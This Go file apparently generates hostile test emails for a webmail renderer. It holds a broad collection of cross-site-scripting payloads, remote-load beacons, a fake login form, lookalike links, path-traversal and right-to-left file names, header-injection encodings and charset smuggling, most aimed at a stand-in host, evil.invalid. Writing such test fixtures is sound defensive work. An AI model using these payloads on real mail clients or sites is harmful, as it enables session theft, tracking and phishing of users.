package mailgen

import (
	"encoding/base64"
	"fmt"
	"strings"
	"unicode/utf16"
)

// HostileHost is where hostile mail wants things to be loaded from and sent to. It
// does not exist (RFC 6761).
const HostileHost = "evil.invalid"

// hostileCall is what the script in hostile mail does, in forms that need no quotes,
// double quotes or semicolons of their own.
const hostileCall = "pwned(1)"

// Hostile returns messages that try to run a script, to load or send something, to
// leave the page or to deceive, when their reader looks at them in a browser. A script
// that runs calls pwned(), which the test has put into every window. Subjects end in "hostile" and a number.
func Hostile() [][]byte {
	var out [][]byte
	add := func(fields, body string) {
		subject := ""
		if !strings.Contains("\r\n"+fields, "\r\nSubject:") {
			subject = fmt.Sprintf("Subject: hostile %d\r\n", len(out))
		}
		if !strings.Contains("\r\n"+fields, "\r\nFrom:") {
			subject += "From: Mallory <mallory@" + HostileHost + ">\r\n"
		}
		out = append(out, fmt.Appendf(nil, "%sTo: victim@example.com\r\nDate: Mon, 5 Jan 2026 08:%02d:00 +0000\r\nMessage-ID: <hostile%d@%s>\r\nMIME-Version: 1.0\r\n%s\r\n%s\r\n",
			subject, len(out)%60, len(out), HostileHost, fields, body))
	}
	const asHTML = "Content-Type: text/html; charset=utf-8\r\n"
	for _, body := range hostileBodies() {
		body = strings.NewReplacer("CALL", hostileCall, "HOST", HostileHost).Replace(body)
		add(asHTML, "<html><body><p>hello</p>"+body+"<p>end</p></body></html>")
	}
	for _, text := range hostileTexts() {
		text = strings.NewReplacer("CALL", hostileCall, "HOST", HostileHost).Replace(text)
		add(fmt.Sprintf("Subject: %s\r\nFrom: \"%s\" <m@%s>\r\nX-Evil: %s\r\nContent-Type: text/plain; charset=utf-8\r\n", text, strings.ReplaceAll(text, `"`, `\"`), HostileHost, text), text)
	}
	for _, name := range hostileNames() {
		name = strings.NewReplacer("CALL", hostileCall, "HOST", HostileHost).Replace(name)
		for _, kind := range []string{"text/html", "image/svg+xml"} {
			add("Content-Type: multipart/mixed; boundary=b\r\n", "--b\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n--b\r\nContent-Type: "+kind+
				"\r\nContent-Disposition: attachment; filename=\""+strings.ReplaceAll(name, `"`, `\"`)+"\"\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\""+hostileCall+
				"\"><script>"+hostileCall+"</script></svg>\r\n--b--")
		}
	}
	hostileEncodings(add)
	hostileStructures(add)
	return out
}

// hostileBodies are pieces of HTML.
func hostileBodies() []string {
	return []string{
		// Scripts and handlers.
		`<script>CALL</script>`, `<SCRIPT SRC=http://HOST/x.js></SCRIPT>`, `<script type=module>import "http://HOST/x.js"</script>`, `<scr<script>ipt>CALL</scr</script>ipt>`,
		`<script/x>CALL</script>`, `<script>CALL//`, `<noscript><p title="</noscript><img src=x onerror=CALL>">`, `<img src=x onerror=CALL>`, `<img src=x:x onerror="CALL"//`,
		"<img src=`x` onerror=CALL>", `<img """><script>CALL</script>">`, `<body onload=CALL>`, `<svg onload=CALL>`, `<svg/onload=CALL>`, `<svg><script>CALL</script></svg>`,
		`<svg><animate onbegin=CALL attributeName=x dur=1s></svg>`, `<svg><set attributeName=href to=javascript:CALL></set><a><text>x</text></a></svg>`,
		`<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PnB3bmVkKDEpPC9zY3JpcHQ+PC9zdmc+#x"></svg>`,
		`<svg><foreignObject><iframe srcdoc="<script>CALL</script>"></iframe></foreignObject></svg>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=CALL>`,
		`<math href="javascript:CALL">x</math>`, `<svg></p><style><a id="</style><img src=1 onerror=CALL>">`, `<details open ontoggle=CALL>x</details>`, `<input autofocus onfocus=CALL>`,
		`<marquee onstart=CALL>x</marquee>`, `<video><source onerror=CALL></video>`, `<video src=http://HOST/v poster=http://HOST/p autoplay onloadstart=CALL></video>`,
		`<audio src=x onerror=CALL autoplay>`, `<select autofocus onfocus=CALL>`, `<textarea autofocus onfocus=CALL></textarea>`, `<keygen autofocus onfocus=CALL>`,
		`<div onpointerover=CALL style="position:fixed;inset:0">x</div>`, `<p onanimationstart=CALL style="animation:x 1s">x</p><style>@keyframes x{}</style>`, `<xss onafterscriptexecute=CALL>x</xss>`,
		`<a href=javascript:CALL>link</a>`, `<a href=" &#1; jav&#x0A;ascript:CALL">link</a>`, `<a href="data:text/html,<script>CALL</script>">link</a>`, `<a href="vbscript:x">link</a>`,
		`<area shape=default href=javascript:CALL><map name=m><area href=javascript:CALL></map><img usemap=#m src=x>`, `<isindex action=javascript:CALL type=image>`,
		`<!--[if gte IE 4]><script>CALL</script><![endif]-->`, `<!--><img src=x onerror=CALL>-->`, `<![CDATA[<script>CALL</script>]]>`, `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">CALL</script>`,
		`<title><img title="</title><img src=x onerror=CALL>"></title>`, `<textarea><img title="</textarea><img src=x onerror=CALL>">`, `<xmp><p title="</xmp><svg/onload=CALL>">`, `<plaintext><script>CALL</script>`,
		`<template><script>CALL</script></template>`, `<frameset onload=CALL><frame src=javascript:CALL></frameset>`, `<applet code=x></applet><object data=javascript:CALL></object>`,
		`<object data="data:text/html,<script>CALL</script>"></object>`, `<embed src=javascript:CALL>`, `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>">`,
		`<iframe src=javascript:CALL></iframe>`, `<iframe srcdoc="<img src=x onerror=CALL>"></iframe>`, `<iframe src=http://HOST/></iframe>`, `<portal src=http://HOST/></portal>`,
		// Loads.
		`<img src=http://HOST/beacon.gif>`, `<img src=//HOST/x>`, `<img src="http:\\HOST\x">`, `<img srcset="http://HOST/a 1x, http://HOST/b 2x">`, `<picture><source srcset=http://HOST/s><img src=x></picture>`,
		`<img lowsrc=http://HOST/l dynsrc=http://HOST/d src=/logout>`, `<link rel=stylesheet href=http://HOST/x.css>`, `<link rel=prefetch href=http://HOST/p><link rel=dns-prefetch href=//HOST><link rel=preconnect href=http://HOST>`,
		`<link rel=icon href=http://HOST/i>`, `<style>@import url(http://HOST/x.css);</style>`, `<style>body{background:url(http://HOST/b)}</style>`, `<style>@font-face{font-family:x;src:url(http://HOST/f)}*{font-family:x}</style>`,
		`<div style="background:url(http://HOST/b)">x</div>`, `<div style="background:u\72l(http://HOST/b)">x</div>`, `<div style="list-style:url('http://HOST/l');content:url(http://HOST/c)">x</div>`,
		`<div style="color:red;background-image:image-set('http://HOST/a' 1x)">x</div>`, `<div style="width:expression(CALL)">x</div>`, `<div style="-moz-binding:url(http://HOST/x.xml#x);behavior:url(x.htc)">x</div>`,
		`<table background=http://HOST/t><tr><td background=http://HOST/d>x</table>`, `<body background=http://HOST/b bgcolor="url(http://HOST/b)">`, `<bgsound src=http://HOST/s>`, `<track src=http://HOST/t default>`,
		`<svg><image href=http://HOST/i></image><filter><feImage href=http://HOST/f></feImage></filter></svg>`, `<input type=image src=http://HOST/i>`, `<a ping=http://HOST/p href=http://HOST/>link</a>`,
		`<img src=cid:none><img src=cid:../../logout><img src="cid:http://HOST/x"><img src="CID:%3Cscript%3E">`, `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'><image href='http://HOST/i'/></svg>">`,
		`<base href=http://HOST/><img src=x><a href=x>link</a>`, `<base target=_top>`, `<html manifest=http://HOST/m>`, `<script src="data:,CALL"></script>`,
		// Leaving and posting.
		`<meta http-equiv=refresh content="0;url=http://HOST/">`, `<meta http-equiv=refresh content="0;url=javascript:CALL">`, `<meta http-equiv=refresh content="0;url=/logout">`, `<meta http-equiv=Set-Cookie content="postkeep_session=x">`,
		`<meta http-equiv=Content-Security-Policy content="script-src *">`, `<form action=http://HOST/ method=post><input name=password type=password><button autofocus>Log in</button></form>`, `<form action=/profile/password method=post><input name=new value=x></form><button form=f formaction=javascript:CALL>x</button>`,
		`<button formaction=http://HOST/ type=submit>x</button>`, `<a href=/logout target=_top>log out</a>`, `<a href="http://HOST/" target=_parent>https://bank.example.com/login</a>`,
		`<a href="http://www.bank.example.com@HOST/">www.bank.example.com</a>`, `<a href="http://xn--bnk-0na.invalid/">bank.invalid</a>`, `<a href="http://HOST/"><b>https:</b>//bank.example.com</a>`,
		// Over the page, and too much.
		`<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99999;background:#fff">Your session has ended</div>`, `<div style="position:absolute;margin:-9999px">x</div>`, `<style>*{display:none!important}</style>`,
		`<div id=main><div id=q><form name=body><input name=appendChild></form></div></div>`, `<img name=pwned><form id=location><a id=document href=x></a></form>`, strings.Repeat(`<div><table><tr><td>`, 600), strings.Repeat("<b><i>", 3000), `<p>` + strings.Repeat("x", 100_000) + `</p>`,
		`<a href="` + strings.Repeat("a", 50_000) + `">link</a>`, `<table width=99999><tr><td nowrap>` + strings.Repeat("wide ", 2000) + `</table>`, "<scr\x00ipt>CALL</scr\x00ipt><img src=x o\x00nerror=CALL>", "<img\x0bsrc=x\x0conerror=CALL>",
		"\u202etpircs\u202c <bdo dir=rtl>moc.knab</bdo>", "\xc0\xbcscript\xc0\xbeCALL\xc0\xbc/script\xc0\xbe", `&lt;script&gt;CALL&lt;/script&gt;<p title="&quot;><script>CALL</script>">x`, `<p title='"><img src=x onerror=CALL>'>x`,
	}
}

// hostileTexts stand where text is shown: in subject, sender, any header, and the text.
func hostileTexts() []string {
	return []string{
		`<script>CALL</script>`, `"><img src=x onerror=CALL>`, `' onmouseover='CALL`, `" autofocus onfocus="CALL`, `</title><script>CALL</script>`, `</textarea><svg onload=CALL>`, `</pre><script>CALL</script>`,
		`{{.}} {{CALL}} ${CALL}`, `javascript:CALL`, `http://HOST/?<script>CALL</script>`, `=?utf-8?q?=3Cscript=3ECALL=3C/script=3E?=`, `=?utf-8?b?PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==?=`,
		"=?utf-8?q?a=0D=0ASet-Cookie:_x=3Dy=0D=0A=0D=0A=3Cscript=3ECALL=3C/script=3E?=", `=?utf-7?q?+ADw-script+AD4-CALL+ADw-/script+AD4-?=`, "\u202e\u2066<b>gnp.exe", strings.Repeat("wide", 500), "\x1b]0;x\x07\x00<i>",
	}
}

// hostileNames are file names.
func hostileNames() []string {
	return []string{
		`<img src=x onerror=CALL>.html`, `"><script>CALL</script>.svg`, `../../../../etc/passwd`, `..\..\autoexec.bat`, "invoice\u202efdp.exe", `=?utf-8?q?a=0D=0AContent-Type:_text/html=0D=0A=0D=0A=3Cscript=3ECALL=3C/script=3E?=`,
		strings.Repeat("long", 200) + `.html`, `CON`, `.htaccess`, `javascript:CALL`,
	}
}

// hostileEncodings hide the markup in a charset or a transfer encoding.
func hostileEncodings(add func(fields, body string)) {
	const script = "<script>" + hostileCall + "</script><img src=x onerror=" + hostileCall + ">"
	units := utf16.Encode([]rune(script))
	var wide []byte
	for _, u := range units {
		wide = append(wide, byte(u), byte(u>>8))
	}
	for _, c := range [][2]string{
		{"utf-7", "+ADw-script+AD4-" + hostileCall + "+ADw-/script+AD4-"},
		{"utf-16le", string(wide)},
		{"iso-2022-jp", "\x1b(J<script>" + hostileCall + "</script>\x1b$B<img src=x onerror=" + hostileCall + ">"},
		{"hz-gb-2312", "~{<script>~}<script>" + hostileCall + "</script>"},
		{"iso-2022-kr", "\x0e<script>\x0f<script>" + hostileCall + "</script>"},
		{"x-user-defined", script},
		{"us-ascii\"><script>", script},
		{"ebcdic-cp-us", script},
	} {
		add(fmt.Sprintf("Content-Type: text/html; charset=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n", strings.ReplaceAll(c[0], `"`, `\"`)), base64.StdEncoding.EncodeToString([]byte(c[1])))
	}
	add("Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n", "=3Cscript=3E"+hostileCall+"=3C/script=3E=\r\n<img src=3Dx one=\r\nrror=3D"+hostileCall+">")
	add("Content-Type: text/html\r\nContent-Transfer-Encoding: x-uuencode\r\n", script)
}

// hostileStructures lie about what a part is.
func hostileStructures(add func(fields, body string)) {
	const script = "<script>" + hostileCall + "</script>"
	add("Content-Type: text/html\r\nContent-Type: text/plain\r\n", script)
	add("Content-Type: TEXT/HTML;\r\n\tcharset=utf-8;\r\n\tname=\"a.txt\"\r\n", script)
	add("Content-Type: text/plain\r\n", script)
	add("", script)
	add("Content-Type: application/xhtml+xml\r\n", `<html xmlns="http://www.w3.org/1999/xhtml">`+script+"</html>")
	add("Content-Type: image/svg+xml\r\nContent-Disposition: inline\r\n", `<svg xmlns="http://www.w3.org/2000/svg">`+script+"</svg>")
	add("Content-Type: multipart/related; boundary=b\r\n", "--b\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:1\"><img src=\"cid:2\"><object data=\"cid:1\"></object>\r\n"+
		"--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <1>\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\""+hostileCall+"\"/>\r\n"+
		"--b\r\nContent-Type: image/png\r\nContent-ID: <2>\r\n\r\n"+script+"\r\n--b--")
	add("Content-Type: multipart/alternative; boundary=b\r\n", "--b\r\nContent-Type: text/plain\r\n\r\nplain\r\n--b\r\nContent-Type: text/html\r\nContent-Disposition: inline\r\n\r\n"+script+"\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>two</p>"+script+"\r\n--b--")
	add("Content-Type: message/rfc822\r\n", "Subject: "+script+"\r\nContent-Type: text/html\r\n\r\n"+script)
	add("Content-Type: text/html\r\nContent-Location: http://"+HostileHost+"/\r\nContent-Base: http://"+HostileHost+"/\r\n", `<img src=x><a href=y>link</a>`)
	add("Content-Type: text/html\r\nLink: <http://"+HostileHost+"/x.css>; rel=stylesheet\r\nRefresh: 0; url=http://"+HostileHost+"/\r\nSet-Cookie: x=y\r\nX-Frame-Options: ALLOWALL\r\n", "<p>headers</p>")
	add("Content-Type: text/calendar\r\n", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:"+script+"\r\nURL:javascript:"+hostileCall+"\r\nEND:VEVENT\r\nEND:VCALENDAR")
}
